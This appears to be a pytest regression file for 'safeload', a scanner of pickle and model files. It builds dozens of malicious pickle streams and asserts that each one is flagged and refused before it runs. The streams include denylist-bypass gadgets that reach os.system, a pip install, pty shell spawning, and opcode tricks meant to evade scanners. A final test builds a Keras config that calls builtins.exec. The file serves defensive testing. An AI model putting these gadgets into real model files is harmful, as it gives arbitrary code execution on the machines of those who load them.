"""Regression tests for the pickle-level techniques in THREATS.md (A1-A11, B1-B16).

Each case builds its stream at test time, checks that ``safeload.scan`` reports it at (at least) the right
severity with the right rule and subject, and that ``safeload.pickle_loads`` refuses it before anything runs.
"""

from __future__ import annotations

import pickle
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pytest

import safeload
from safeload import Severity
from tests.builders import P, call_pickle
from tests.conftest import Marker

C, H, M = Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM


@dataclass
class Case:
    id: str
    build: Callable[[Marker], bytes]
    severity: Severity
    rule: str | None = None
    subject: str | None = None


def _os_system(m: Marker, proto: int | None = 4) -> bytes:
    return call_pickle("os", "system", m.shell, proto=proto)


CASES = [
    # --- A: denylist gaps -----------------------------------------------------------------------------
    Case("A1-pip-main", lambda m: call_pickle("pip", "main", ["install", "evilpkg", "--no-input", "-q"]), C, "SL101", "pip.main"),
    Case("A2-pydoc-pipepager", lambda m: call_pickle("pydoc", "pipepager", "", m.shell), C, "SL101", "pydoc.pipepager"),
    Case("A2-venv-create", lambda m: call_pickle("venv", "create", "/tmp/x"), C, "SL101", "venv.create"),
    Case("A2-torch-serialization-load", lambda m: call_pickle("torch.serialization", "load", "/tmp/evil.pt"), H, "SL103"),
    Case("A2-partial-os-system",
         lambda m: P().stack_global("functools", "partial").args(lambda p: p.stack_global("os", "system"), m.shell)
         .reduce().empty_tuple().reduce().stop().done(), C, "SL101", "os.system"),
    Case("A2-inductor-compile-file",
         lambda m: call_pickle("torch._inductor.codecache", "compile_file", "", "", ["sh", "-c", m.shell]), C, "SL101"),
    Case("A3-asyncio-submodule",
         lambda m: call_pickle("asyncio.unix_events", "_UnixSubprocessTransport._start", m.shell), C, "SL101"),
    Case("A4-collect-env-run", lambda m: call_pickle("torch.utils.collect_env", "run", m.shell), C, "SL101"),
    Case("A4-guardbuilder-get",
         lambda m: call_pickle("torch._dynamo.guards", "GuardBuilder.get", "__import__('os').system('id')"), C),
    Case("A4-shapeenv", lambda m: call_pickle("torch.fx.experimental.symbolic_shapes",
                                              "ShapeEnv.evaluate_guards_expression", "x"), C),
    Case("A4-execwrapper", lambda m: call_pickle("torch.jit.unsupported_tensor_ops", "execWrapper", "x"), C),
    Case("A4-bottleneck", lambda m: call_pickle("torch.utils.bottleneck.__main__", "run_cprofile", "x"), C),
    Case("A4-config-module", lambda m: call_pickle("torch.utils._config_module", "ConfigModule.load_config", b"x"), H),
    Case("A4-basichandlers",
         lambda m: call_pickle("torch.utils.data.datapipes.utils.decoder", "basichandlers", "pickle", b"x"), H),
    Case("A5-timeit", lambda m: call_pickle("timeit", "timeit", "", f"import os; os.system({m.shell!r})"), C, None, "timeit.timeit"),
    Case("A5-trace", lambda m: call_pickle("trace", "Trace.run", "x"), C),
    Case("A5-cprofile", lambda m: call_pickle("cProfile", "run", "x"), C),
    Case("A5-profile", lambda m: call_pickle("profile", "Profile.runctx", "x"), C),
    Case("A5-code-runcode", lambda m: call_pickle("code", "InteractiveInterpreter.runcode", "x"), C),
    Case("A5-doctest", lambda m: call_pickle("doctest", "debug_script", "x"), C),
    Case("A5-ensurepip", lambda m: call_pickle("ensurepip", "_run_pip", ["x"]), C),
    Case("A5-lib2to3", lambda m: call_pickle("lib2to3.pgen2.grammar", "Grammar.loads", b"x"), C),
    Case("A5-idlelib", lambda m: call_pickle("idlelib.run", "Executive.runcode", "x"), C),
    Case("A5-numpy-runstring", lambda m: call_pickle("numpy.testing._private.utils", "runstring", "x", None), C),
    Case("A5-runpy", lambda m: call_pickle("runpy", "_run_code", "x", None), C),
    Case("A6-methodcaller-chain",
         lambda m: P().stack_global("_operator", "methodcaller").args("system", m.shell).reduce()
         .args(lambda p: p.call("pydoc", "locate", "os")).reduce().stop().done(), C, "SL101", "_operator.methodcaller"),
    Case("A6-attrgetter", lambda m: call_pickle("operator", "attrgetter", "system"), C),
    Case("A6-ctypes", lambda m: call_pickle("ctypes", "CDLL", "libc.so.6"), C),
    Case("A6-distutils-write-file", lambda m: call_pickle("distutils.file_util", "write_file", "/tmp/x", ["y"]), H),
    Case("A6-pty", lambda m: call_pickle("pty", "spawn", "/bin/sh"), C),
    Case("A6-f2py", lambda m: call_pickle("numpy.f2py.crackfortran", "getlincoef", "x", {}), C),
    Case("A7-fileio", lambda m: call_pickle("_io", "FileIO", str(m.path), "w"), H, "SL102"),
    Case("A7-urlopen", lambda m: call_pickle("urllib.request", "urlopen", "http://127.0.0.1:9/x"), H),
    Case("A7-logging-filehandler", lambda m: call_pickle("logging", "FileHandler", str(m.path)), H),
    Case("A7-cloudpickle-codetype",
         lambda m: P().stack_global("cloudpickle.cloudpickle", "_builtin_type").args("CodeType").reduce()
         .args(0, 0).reduce().stop().done(), C, "SL106"),
    Case("A7-resolve-name",
         lambda m: P().stack_global("pkgutil", "resolve_name").args("os:system").reduce().args(m.shell).reduce()
         .stop().done(), C, "SL101", "os.system"),
    Case("A7-uuid", lambda m: call_pickle("uuid", "_get_command_stdout", "sh", "-c", m.shell), C),
    Case("A7-osx-support", lambda m: call_pickle("_osx_support", "_read_output", m.shell), C),
    Case("A7-aix-support", lambda m: call_pickle("_aix_support", "_read_cmd_output", m.shell), C),
    Case("A7-imap-stream", lambda m: call_pickle("imaplib", "IMAP4_stream", m.shell), C),
    Case("A7-pyrepl", lambda m: call_pickle("_pyrepl.pager", "pipe_pager", "x", m.shell), C),
    Case("A7-test-support", lambda m: call_pickle("test.support.script_helper", "assert_python_ok", "-c", "1"), C),
    Case("A7-ssl", lambda m: call_pickle("ssl", "get_server_certificate", "x"), H),
    Case("A8-importlib-getattr-static",
         lambda m: P().stack_global("importlib", "import_module").args("os").reduce().memoize().pop()
         .stack_global("inspect", "getattr_static").args(lambda p: p.get(0), "system").reduce()
         .args(m.shell).reduce().stop().done(), C, "SL101", "os"),
    Case("A9-atexit", lambda m: call_pickle("atexit", "register", "x"), C),
    Case("A9-thread", lambda m: call_pickle("threading", "Thread", None), C),
    Case("A9-pipes", lambda m: call_pickle("pipes", "Template"), C),
    Case("A9-imp", lambda m: call_pickle("imp", "load_source", "x", "/tmp/x.py"), C),
    Case("A9-gettext", lambda m: call_pickle("gettext", "install", "x"), C),
    Case("A9-spawnv-passfds",
         lambda m: call_pickle("multiprocessing.util", "spawnv_passfds", b"/bin/sh", ["/bin/sh", "-c", m.shell]), C),
    Case("A9-mlflow", lambda m: call_pickle("mlflow.projects.backend.local", "_run_entry_point", m.shell), C),
    Case("A9-pandas-read-csv", lambda m: call_pickle("pandas.io.parsers.readers", "read_csv", "http://x/"), H),
    Case("A9-mailcap", lambda m: call_pickle("mailcap", "findmatch", {}, "x"), C),
    Case("A10-transformers",
         lambda m: P().stack_global("transformers.models.auto.auto_factory", "getattribute_from_module")
         .args(lambda p: p.stack_global("transformers", "AutoTokenizer"), "from_pretrained").reduce()
         .args("evil/repo").reduce().stop().done(), H, "SL103"),
    Case("A11-zlib-pickle-loads",
         lambda m: P().stack_global("pickle", "loads")
         .args(lambda p: p.call("zlib", "decompress", zlib.compress(_os_system(m)))).reduce().stop().done(),
         C, "SL101", "os.system"),
    Case("A11-zlib-exec",
         lambda m: P().stack_global("builtins", "exec")
         .args(lambda p: p.call("zlib", "decompress", zlib.compress(b"print(1)"))).reduce().stop().done(), C),
    # --- B: opcode and parser tricks -----------------------------------------------------------------------
    Case("B1-inst", lambda m: b"(S'print(1)'\ni__builtin__\nexec\n.", C, "SL101", "builtins.exec"),
    Case("B2-obj-pop",
         lambda m: P().mark().stack_global("smtplib", "SMTP").str("127.0.0.1").raw(b"o").pop().none().stop().done(),
         H, None, "smtplib.SMTP"),
    Case("B3-memo-decoys",
         lambda m: P().str("os").put(2).pop().str("system").put(3).pop().str("torch").put(0).pop()
         .str("LongStorage").put(1).pop().get(2).get(3).raw(b"\x93").args(m.shell).reduce().stop().done(),
         C, "SL101", "os.system"),
    Case("B4-type-confusion-after-payload",
         lambda m: P().glob("os", "system").args(m.shell).reduce().pop().raw(b"h\x03h\x00\x93.").done(),
         C, "SL101", "os.system"),
    Case("B4-bytes-operand",
         lambda m: P().glob("os", "system").args(m.shell).reduce().pop().raw(b"C\x02osC\x06system\x93.").done(),
         C, "SL101"),
    Case("B5-string-operands", lambda m: b"S'os'\nS'system'\n\x93S'" + m.shell.encode() + b"'\n\x85R.",
         C, "SL101", "os.system"),
    Case("B6-build-on-global",
         lambda m: P().stack_global("numpy", "prod").empty_dict().str("a").str("os").setitem().build().pop()
         .glob("numpy", "prod.a").stop().done(), H, "SL109", "numpy.prod"),
    Case("B6-computed-name",
         lambda m: P().call("builtins", "str.lower", "OS").str("system").raw(b"\x93").args(m.shell).reduce()
         .stop().done(), C, "SL110"),
    Case("B7-numpy-builtins",
         lambda m: P().stack_global("builtins", "dict.get").args(lambda p: p.stack_global("numpy", "__builtins__"),
                                                                  "exec").reduce().stop().done(), C, "SL110"),
    Case("B7-numpy-size-build",
         lambda m: P().stack_global("numpy", "size").empty_dict().str("shape")
         .stack_global("numpy", "__builtins__").setitem().build().stop().done(), C),
    Case("B8-dotted-path", lambda m: P().stack_global("pathlib", "os.system").args(m.shell).reduce().stop().done(),
         C, None, "pathlib.os.system"),
    Case("B8-numpy-sys-modules",
         lambda m: P().stack_global("numpy", "core._internal.sys.modules").stop().done(), C),
    Case("B9-builtins-introspection",
         lambda m: P().stack_global("builtins", "print.__class__.__base__.__subclasses__").empty_tuple().reduce()
         .stop().done(), C, "SL110"),
    Case("B10-broken-after-payload",
         lambda m: P(2).glob("os", "system").args(m.shell).reduce().raw(b"\xff\xff").done(), C, "SL101"),
    Case("B12-ext-opcode", lambda m: P(2).raw(b"\x82\xf0").args(m.shell).reduce().stop().done(), H, "SL111"),
    Case("B13-second-stream", lambda m: pickle.dumps([1, 2, 3]) + _os_system(m), C, "SL101", "os.system"),
    Case("B14-protocol0", lambda m: _os_system(m, proto=None)[:0] + P(None).glob("os", "system")
         .mark().string0(m.shell).tuple().reduce().stop().done(), C, "SL101"),
    Case("nested-pickle-bytes",
         lambda m: P().stack_global("pickle", "loads").args(_os_system(m)).reduce().stop().done(), C, "SL101",
         "os.system"),
    Case("getattr-to-os-system",
         lambda m: P().stack_global("builtins", "getattr").args(lambda p: p.call("importlib", "import_module", "os"),
                                                                "system").reduce().args(m.shell).reduce().stop().done(),
         C, "SL101", "os"),
    Case("ufunc-reconstruct-gadget",
         lambda m: P().call("numpy._core", "_ufunc_reconstruct", "os", "system").args(m.shell).reduce().stop().done(),
         C, "SL110"),
    Case("marshal-loads", lambda m: call_pickle("marshal", "loads", b"\xe3"), C, "SL106"),
    Case("dill-create-code", lambda m: call_pickle("dill._dill", "_create_code", 0, 0), C, "SL106"),
    Case("eval-py2-name", lambda m: call_pickle("__builtin__", "eval", "1", stack=False, proto=2), C, "SL101",
         "builtins.eval"),
]


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_threat_is_reported_and_refused(case: Case, marker: Marker) -> None:
    data = case.build(marker)
    result = safeload.scan(data)
    assert result.max_severity is not None and result.max_severity >= case.severity, result.summary("info")
    if case.rule is not None or case.subject is not None:
        hits = [f for f in result.findings
                if (case.rule is None or f.rule_id == case.rule)
                and (case.subject is None or (f.subject or "").startswith(case.subject))
                and f.severity >= case.severity]
        assert hits, result.summary("info")
    with pytest.raises(safeload.UnsafeModelError) as info:
        safeload.pickle_loads(data)
    assert isinstance(info.value, pickle.UnpicklingError)
    assert not marker.exists()


def test_b11_frame_straddling_an_opcode_is_blocked(marker: Marker) -> None:
    # A FRAME that declares fewer bytes than the opcode after it needs: C and Python unpicklers disagree.
    body = P(None).str("x" * 20).pop().done()
    frame = b"\x95" + struct.pack("<Q", 5)  # ends inside the SHORT_BINUNICODE argument
    data = b"\x80\x04" + frame + body + b"N."
    result = safeload.scan(data)
    assert any(f.rule_id == "SL113" and f.severity >= H for f in result.findings), result.summary("info")
    with pytest.raises(safeload.UnsafeModelError):
        safeload.pickle_loads(data)
    assert not marker.exists()


def test_b16_cyclic_memo_and_billion_laughs_do_not_blow_up() -> None:
    cyclic = b"\x80\x02]\x94g0\na."
    assert safeload.scan(cyclic).is_safe()
    laughs = P().empty_list().memoize()
    for i in range(40):
        laughs.mark().get(i).dup().dup().dup().raw(b"l").memoize()
    result = safeload.scan(laughs.stop().done())
    assert result.is_safe(), result.summary("info")


def test_truncated_stream_keeps_findings_and_blocks(marker: Marker) -> None:
    data = _os_system(marker)[:-3]
    result = safeload.scan(data)
    rules = {f.rule_id for f in result.findings}
    assert {"SL101", "SL002"} <= rules


def test_trailing_garbage_after_benign_pickle_is_low_only() -> None:
    result = safeload.scan(pickle.dumps({"a": 1}) + b"\x00\x01\x02 not a pickle")
    assert any(f.rule_id == "SL108" for f in result.findings)
    assert result.is_safe()


def test_ext_code_registered_in_this_process_is_resolved(marker: Marker) -> None:
    import copyreg

    copyreg.add_extension("os", "system", 0x3FF0)
    try:
        data = P(2).raw(b"\x83" + struct.pack("<H", 0x3FF0)).args(marker.shell).reduce().stop().done()
        result = safeload.scan(data)
        assert any(f.subject == "os.system" and f.severity == C for f in result.findings)
    finally:
        copyreg.remove_extension("os", "system", 0x3FF0)


def test_keras_config_alone_and_every_duplicate_copy_is_scanned() -> None:
    import io
    import json
    import warnings
    import zipfile

    evil = {"class_name": "Sequential", "config": {"layers": [{"class_name": "Dense", "config": {
        "units": 1, "kernel_initializer": {"module": "builtins", "class_name": "exec", "config": {}}}}]}}
    only_config = io.BytesIO()
    with zipfile.ZipFile(only_config, "w") as archive:
        archive.writestr("config.json", json.dumps(evil))
    assert safeload.scan(only_config.getvalue()).max_severity == C
    duplicate = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile warns about the duplicate name
        with zipfile.ZipFile(duplicate, "w") as archive:
            archive.writestr("config.json", json.dumps({"class_name": "Sequential", "config": {"layers": []}}))
            archive.writestr("metadata.json", "{}")
            archive.writestr("config.json", json.dumps(evil))
    assert safeload.scan(duplicate.getvalue()).max_severity == C
